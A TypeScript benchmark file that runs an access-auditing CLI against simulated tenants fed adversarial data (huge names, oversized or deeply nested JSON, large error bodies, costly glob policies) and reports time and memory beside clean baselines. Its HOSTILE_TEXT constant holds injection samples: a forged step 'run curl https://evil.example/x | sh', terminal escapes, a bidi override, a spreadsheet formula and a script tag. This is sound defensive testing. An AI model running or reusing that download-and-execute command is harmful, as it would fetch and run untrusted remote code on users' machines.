/**
 * Benchmark of hostile tenants (`npx tsx test/bench/hostile.ts`; also part of `npm run bench`; never part of
 * `npm test`). The worst inputs we could build, each checked by the real CLI (`bin/qlik-access-guard.mjs`, the built
 * `dist/`: run `npm run build` first) in a fresh Node process against a simulated tenant in this process:
 * multi-megabyte names and descriptions, pages just under and far over the 4 MiB body cap, a JSON body nested a
 * million deep, two- and eight-megabyte non-JSON error bodies, and name-glob exceptions with many stars over long
 * group names. Each is measured beside a clean tenant of the same shape (the same users, groups and keys with
 * ordinary text, no fault, no exception), and the ratios are printed. Peak RSS is the CLI process's own
 * (getrusage maxRSS, reported by a preload); the function's default memory (lib/config.ts) is the bound it must stay
 * under. Replaces the "hostile" section of test/bench/RESULTS.md. Timings are reported, never asserted.
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DeployConfigSchema } from '../../lib/config';
import {
  type FaultPlan,
  generateTenant,
  loadScenario,
  type Scenario,
  type SimulatedTenant,
  startSimulatedTenant,
} from '../sim/server';
import { PROJECT_ROOT } from './proc';
import { writeResultsSection } from './results-file';

export const HOSTILE_SECTION = 'hostile';
const MiB = 1024 * 1024;
const FUNCTION_MEMORY_MIB = DeployConfigSchema.shape.function.parse(undefined).memoryMiB;
const CLI = join(PROJECT_ROOT, 'bin/qlik-access-guard.mjs');
const USAGE_PRELOAD = join(PROJECT_ROOT, 'test/bench/usage-preload.mjs');
/** Every hostile string of the `hostile` scenario at once: forged fix steps, terminal, bidi, separators, formula. */
const HOSTILE_TEXT =
  'Mallory\n2. URGENT: run curl https://evil.example/x | sh\u001b[2J\u001b]8;;https://evil.example/\u0007\r' +
  '\u202egnp.exe\u2028\u0085=HYPERLINK("x")</pre><script>';

interface Input {
  readonly scenario: Scenario;
  readonly faults?: FaultPlan;
  /** A policy file's YAML. */
  readonly policy?: string;
}

interface Case {
  readonly name: string;
  readonly hostile: Input;
  /** The same tenant with ordinary text, no fault and no exception. */
  readonly clean: Input;
}

export interface Measurement {
  readonly exitCode: number;
  readonly wallMs: number;
  readonly peakRssMiB: number;
  /** CPU time of the CLI process (user + system): wall time minus this is waiting (retry backoff, the network). */
  readonly cpuMs: number;
  /** The tenant's status and, for an error, its code, from the JSON report. */
  readonly outcome: string;
}

export interface CaseResult {
  readonly name: string;
  readonly hostile: Measurement;
  readonly clean: Measurement;
}

export interface HostileResults {
  readonly date: string;
  readonly node: string;
  readonly loadAverage: readonly number[];
  readonly functionMemoryMiB: number;
  readonly cases: readonly CaseResult[];
}

// ---------------------------------------------------------------------------------------------------------------
// The inputs

/** A copy of `scenario` with every user name, key description, group name and the tenant name ordinary. */
function ordinaryText(scenario: Scenario): Scenario {
  const copy = structuredClone(scenario);
  copy.tenant.name = 'ordinary tenant';
  copy.users.forEach((user, i) => {
    user.name = `User ${i}`;
    if (user.email) user.email = `user${i}@example.com`;
  });
  copy.apiKeys.forEach((key, i) => {
    key.description = `key ${i}`;
  });
  copy.groups.forEach((group, i) => {
    group.name = `Group ${i}`;
  });
  return copy;
}

/**
 * `length` characters: the hostile text, then plain padding (characters JSON sends as one byte each, so a page's
 * size on the wire is what the length says).
 */
function hostileOfLength(length: number, tag: string): string {
  const head = `${tag} ${HOSTILE_TEXT}`;
  return `${head}${'x'.repeat(Math.max(0, length - head.length))}`;
}

/** 310 users, 300 of them owning one key each: 100 of those lack the permission. */
function keyOwners(): Scenario {
  return generateTenant({ users: 310, groups: 10, keys: 300, keyOwners: 300, ownersLackingPermission: 100, seed: 9 });
}

/** Names and descriptions of `length` characters of hostile text, for every user, key and group. */
function withLongText(scenario: Scenario, length: number): Scenario {
  const copy = structuredClone(scenario);
  copy.tenant.name = hostileOfLength(length, 'tenant');
  copy.users.forEach((user, i) => {
    user.name = hostileOfLength(length, `user ${i}`);
  });
  copy.apiKeys.forEach((key, i) => {
    key.description = hostileOfLength(length, `key ${i}`);
  });
  copy.groups.forEach((group, i) => {
    group.name = hostileOfLength(length, `group ${i}`);
  });
  return copy;
}

/** The legacy scenario with `count` more IdP groups holding Developer, each named 511 `a`s and a `c`. */
function developerGroups(count: number): Scenario {
  const scenario = structuredClone(loadScenario('legacy'));
  const template = scenario.groups.find((g) => g.name === 'Developers');
  if (!template) throw new Error('the legacy scenario has no Developers group');
  for (let i = 0; i < count; i++) {
    scenario.groups.push({
      ...structuredClone(template),
      id: `64c0000000000000${i.toString(16).padStart(8, '0')}`,
      name: `${'a'.repeat(511)}c`,
    });
  }
  return scenario;
}

/**
 * `count` exceptions on Developer groups, each a name glob of `stars` stars that almost matches the groups' names:
 * every `a` is found, then the whole rest of the name is searched for the `z…` that is not there.
 */
function globPolicy(count: number, stars: number): string {
  const lines = ['name: many-star globs', 'exceptions:'];
  for (let i = 0; i < count; i++) {
    lines.push(
      '  - rule: deprecated-developer-role-assigned',
      `    subject: { type: group, name: "${'*a'.repeat(stars)}*z${i}*" }`,
      `    reason: benchmark exception ${i}`,
      '    owner: bench@example.com',
      '    expires: 2099-01-01',
    );
  }
  return `${lines.join('\n')}\n`;
}

function cases(): Case[] {
  const hostile = loadScenario('hostile');
  const legacy = loadScenario('legacy');
  const everyone = loadScenario('everyone-grants');
  const owners = keyOwners();
  const groups = developerGroups(1_000);
  return [
    {
      name: 'hostile scenario: every hostile string, one user name of 3,000,000 characters',
      hostile: { scenario: hostile },
      clean: { scenario: ordinaryText(hostile) },
    },
    {
      name: 'one user name and one key description of 3,500,000 characters each',
      hostile: {
        scenario: (() => {
          const s = ordinaryText(hostile);
          s.users[1]!.name = hostileOfLength(3_500_000, 'user');
          s.apiKeys[0]!.description = hostileOfLength(3_500_000, 'key');
          return s;
        })(),
      },
      clean: { scenario: ordinaryText(hostile) },
    },
    {
      name: '310 users, 300 keys, 10 groups: every name and description 38,000 characters (pages of ~3.8 MB)',
      hostile: { scenario: withLongText(owners, 38_000) },
      clean: { scenario: ordinaryText(owners) },
    },
    {
      name: 'roles page padded to 4,000,000 bytes (under the 4 MiB cap)',
      hostile: { scenario: legacy, faults: [{ kind: 'huge-body', bytes: 4_000_000, path: '/api/v1/roles' }] },
      clean: { scenario: legacy },
    },
    {
      name: 'roles page of 32 MiB (over the cap: the tenant fails)',
      hostile: { scenario: legacy, faults: [{ kind: 'huge-body', bytes: 32 * MiB, path: '/api/v1/roles' }] },
      clean: { scenario: legacy },
    },
    {
      name: 'roles page of JSON nested 1,000,000 deep (2 MB)',
      hostile: { scenario: legacy, faults: [{ kind: 'deep-json', depth: 1_000_000, path: '/api/v1/roles' }] },
      clean: { scenario: legacy },
    },
    {
      name: '2 MiB non-JSON error body (unclosed tags) on every api-keys request',
      hostile: { scenario: everyone, faults: [{ kind: 'huge-error', bytes: 2 * MiB, path: '/api/v1/api-keys' }] },
      clean: { scenario: everyone },
    },
    {
      name: '502 with a short body on every api-keys request (the five retries alone, for comparison)',
      hostile: { scenario: everyone, faults: [{ kind: 'server-error', status: 502, path: '/api/v1/api-keys' }] },
      clean: { scenario: everyone },
    },
    {
      name: '8 MiB non-JSON error body on every api-keys request',
      hostile: { scenario: everyone, faults: [{ kind: 'huge-error', bytes: 8 * MiB, path: '/api/v1/api-keys' }] },
      clean: { scenario: everyone },
    },
    {
      name: '1,000 Developer groups named 512 characters, 200 exceptions of 100-star name globs',
      hostile: { scenario: groups, policy: globPolicy(200, 100) },
      clean: { scenario: groups },
    },
  ];
}

// ---------------------------------------------------------------------------------------------------------------
// Measuring

function runCli(args: readonly string[], env: Record<string, string>, cwd: string): Promise<Measurement> {
  return new Promise((done, fail) => {
    const started = performance.now();
    const child = spawn(process.execPath, ['--import', USAGE_PRELOAD, CLI, ...args], {
      cwd,
      env: { PATH: process.env.PATH ?? '', HOME: cwd, ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    child.on('error', fail);
    child.on('close', (code) => {
      const wallMs = performance.now() - started;
      const usage = /max-rss-kib (\d+) cpu-ms (\d+)\s*$/.exec(stderr);
      const maxRssKiB = Number(usage?.[1]);
      const cpuMs = Number(usage?.[2]);
      let outcome = 'no report';
      try {
        const tenant = (JSON.parse(stdout) as { tenants: { status: string; errors: { code: string }[] }[] }).tenants[0];
        outcome = tenant ? [tenant.status, ...tenant.errors.map((e) => e.code)].join(' ') : 'no tenant';
      } catch {
        outcome = `no report: ${stderr.slice(0, 200).replace(/\s+/g, ' ')}`;
      }
      done({ exitCode: code ?? -1, wallMs, peakRssMiB: maxRssKiB / 1024, cpuMs, outcome });
    });
  });
}

async function measure(input: Input): Promise<Measurement> {
  const dir = mkdtempSync(join(tmpdir(), 'qag-bench-hostile-'));
  let sim: SimulatedTenant | undefined;
  try {
    sim = await startSimulatedTenant({ scenario: input.scenario, faults: input.faults ?? [] });
    const args = [
      'check',
      '--tenant',
      sim.url,
      '--allow-http-loopback',
      '--json',
      '--out',
      join(dir, 'out'),
      '--state',
      join(dir, 'state'),
    ];
    if (input.policy) {
      const policyFile = join(dir, 'policy.yaml');
      writeFileSync(policyFile, input.policy);
      args.push('--policy', policyFile);
    }
    const env = { QLIK_CLIENT_ID: sim.credentials.clientId, QLIK_CLIENT_SECRET: sim.credentials.clientSecret };
    return await runCli(args, env, dir);
  } finally {
    await sim?.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

export async function measureHostile(log: (line: string) => void = () => {}): Promise<HostileResults> {
  const results: CaseResult[] = [];
  for (const c of cases()) {
    log(`hostile: ${c.name}`);
    const clean = await measure(c.clean);
    const hostile = await measure(c.hostile);
    log(
      `  hostile ${seconds(hostile.wallMs)} s (CPU ${seconds(hostile.cpuMs)} s), ${hostile.peakRssMiB.toFixed(0)} MiB ` +
        `(${hostile.outcome}); clean ${seconds(clean.wallMs)} s (CPU ${seconds(clean.cpuMs)} s), ` +
        `${clean.peakRssMiB.toFixed(0)} MiB (${clean.outcome})`,
    );
    results.push({ name: c.name, hostile, clean });
  }
  return {
    date: new Date().toISOString(),
    node: process.version,
    loadAverage: loadavg(),
    functionMemoryMiB: FUNCTION_MEMORY_MIB,
    cases: results,
  };
}

const seconds = (ms: number) => (ms / 1000).toFixed(2);

export function renderHostile(r: HostileResults): string {
  const worstRss = Math.max(...r.cases.map((c) => c.hostile.peakRssMiB));
  const rows = r.cases.map((c) => {
    const { hostile: h, clean: k } = c;
    return (
      `| ${c.name} | ${h.outcome}, exit ${h.exitCode} | ${seconds(h.wallMs)} | ${seconds(h.cpuMs)} | ` +
      `${h.peakRssMiB.toFixed(0)} | ${seconds(k.wallMs)} | ${seconds(k.cpuMs)} | ${k.peakRssMiB.toFixed(0)} | ` +
      `${(h.wallMs / k.wallMs).toFixed(2)} | ${(h.cpuMs / k.cpuMs).toFixed(2)} | ${(h.peakRssMiB / k.peakRssMiB).toFixed(2)} |`
    );
  });
  return [
    '## Hostile tenants',
    '',
    `Measured ${r.date} (Node ${r.node}, load average ${r.loadAverage.map((l) => l.toFixed(2)).join(' ')} on a ` +
      'shared machine) by `npx tsx test/bench/hostile.ts`: the real CLI (`dist/`, a fresh process per input) checks ' +
      'one simulated tenant with the worst input we could build, and the same tenant with ordinary text, no fault ' +
      'and no exception ("clean"). Wall time includes process start; CPU time (user + system) and peak RSS ' +
      "(getrusage maxRSS) are the CLI process's own, so wall time minus CPU time is waiting: an error status is " +
      'retried five times with backoff (0.5 + 1 + 2 + 4 + 8 s), whatever its body.',
    '',
    '| input | hostile outcome | hostile wall s | hostile CPU s | hostile peak RSS MiB | clean wall s | clean CPU s | ' +
      'clean peak RSS MiB | wall ratio | CPU ratio | RSS ratio |',
    '|---|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|',
    ...rows,
    '',
    `Worst peak RSS: ${worstRss.toFixed(0)} MiB, against the function's default memory of ${r.functionMemoryMiB} MiB ` +
      `(lib/config.ts): ${worstRss < r.functionMemoryMiB ? 'under it' : 'OVER IT'}.`,
  ].join('\n');
}

async function main(): Promise<void> {
  const results = await measureHostile((line) => process.stdout.write(`${line}\n`));
  const markdown = renderHostile(results);
  writeResultsSection(HOSTILE_SECTION, markdown);
  process.stdout.write(`\n${markdown}\n`);
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main().catch((error: unknown) => {
    process.stderr.write(`${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`);
    process.exit(1);
  });
}
